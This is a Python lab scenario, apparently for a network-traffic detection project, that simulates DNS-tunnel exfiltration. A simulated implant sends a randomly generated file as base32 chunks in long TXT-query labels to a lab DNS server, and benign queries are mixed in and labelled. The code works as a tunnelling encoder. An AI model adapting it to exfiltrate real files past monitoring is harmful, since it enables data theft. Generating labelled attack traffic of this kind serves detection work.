"""DNS tunnel: an implant on the attacker's address exfiltrates a file as
base32 in long labels of TXT queries under a tunnel domain, and the lab's DNS
server answers each with encoded data, while a benign client asks ordinary
names. Every query goes from its own bound port, as stub resolvers do."""

from __future__ import annotations

import base64
import itertools
import os
import socket
from collections.abc import Iterator

from dnslib import QTYPE, RR, TXT, DNSLabel, DNSRecord
from dnslib.server import DNSHandler

from netgptd.decode.packet import PROTO_UDP
from netgptd.lab.safety import LabError
from netgptd.lab.scenario import BENIGN, LabContext, scenario
from netgptd.lab.scenarios._attack_targets import (ATTACKER, CLIENT, VICTIM, LabZone, Peer, serve_dns,
                                                   stop_servers)

ZONE = "netgptd.lab"
TUNNEL_DOMAIN = "cdn-sync.netgptd.lab"
EXFIL_BYTES = 16 * 1024  # the file the implant sends, made at run time
CHUNK_BYTES = 110  # per query: base32 of 110 bytes is 176 characters ...
LABEL_CHARS = 60  # ... in labels of 60 (60 + 60 + 56)
REPLY_BYTES = 120  # data in each TXT answer (192 characters of base32)
QUERY_RATE = 50  # tunnel queries per second
BENIGN_EVERY = 10  # the benign client asks once per this many tunnel queries
BENIGN_NAMES = ["www.netgptd.lab", "mail.netgptd.lab", "intranet.netgptd.lab", "wiki.netgptd.lab"]


def _b32(data: bytes) -> str:
    return base64.b32encode(data).decode().rstrip("=").lower()


class _TunnelServer(LabZone):
    """The lab zone, and a TXT answer with encoded data for every name under
    the tunnel domain (the implant's instructions, as far as it knows)."""

    tunnel = DNSLabel(TUNNEL_DOMAIN)

    def resolve(self, request: DNSRecord, handler: DNSHandler) -> DNSRecord:
        qname = request.q.qname
        if not (qname.matchSuffix(self.tunnel) and request.q.qtype == QTYPE.TXT):
            return super().resolve(request, handler)
        reply = request.reply()
        reply.add_answer(RR(qname, QTYPE.TXT, rdata=TXT(_b32(os.urandom(REPLY_BYTES))), ttl=0))
        return reply


def _tunnel_names(data: bytes) -> Iterator[str]:
    """The exfiltration's query names, session after session:
    DATA.DATA.DATA.SEQ.SESSION.TUNNEL_DOMAIN."""
    for session in itertools.count():
        for seq, start in enumerate(range(0, len(data), CHUNK_BYTES)):
            encoded = _b32(data[start:start + CHUNK_BYTES])
            labels = [encoded[i:i + LABEL_CHARS] for i in range(0, len(encoded), LABEL_CHARS)]
            yield ".".join([*labels, f"{seq:x}", f"s{session:x}", TUNNEL_DOMAIN])


def _ask(ctx: LabContext, client_ip: str, server: Peer, name: str, qtype: str, attack: str) -> None:
    """One query from a fresh bound port of ``client_ip``; its flow is labelled."""
    query = DNSRecord.question(name, qtype)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        sock.bind((client_ip, 0))
        client = sock.getsockname()
        sock.sendto(query.pack(), server)
        ctx.label(PROTO_UDP, client, server, "DNS", attack)
        reply = DNSRecord.parse(sock.recv(4096))
    if reply.header.id != query.header.id:
        raise LabError(f"{ctx.scenario}: reply {reply.header.id} does not answer query {query.header.id}")


@scenario("dns-tunnel", "attack", "DNS tunnel: file exfiltration in TXT queries with long base32 labels, and benign DNS",
          python=("dnslib",))  # fmt: skip
def dns_tunnel(ctx: LabContext) -> None:
    victim_ip, client_ip, attacker_ip = ctx.host(VICTIM), ctx.host(CLIENT), ctx.host(ATTACKER)
    loot = ctx.workdir / "loot.tar"
    loot.write_bytes(os.urandom(EXFIL_BYTES))
    dns = serve_dns(ctx, victim_ip, _TunnelServer(ZONE, victim_ip))
    server = dns.server.server_address
    benign_names = itertools.cycle(BENIGN_NAMES)
    try:
        for sent, name in enumerate(_tunnel_names(loot.read_bytes()), start=1):
            if not ctx.running():
                break
            _ask(ctx, attacker_ip, server, name, "TXT", "tunnel")
            if sent % BENIGN_EVERY == 1:
                _ask(ctx, client_ip, server, next(benign_names), "A", BENIGN)
            ctx.pace(sent, QUERY_RATE)
    finally:
        stop_servers([dns.server])
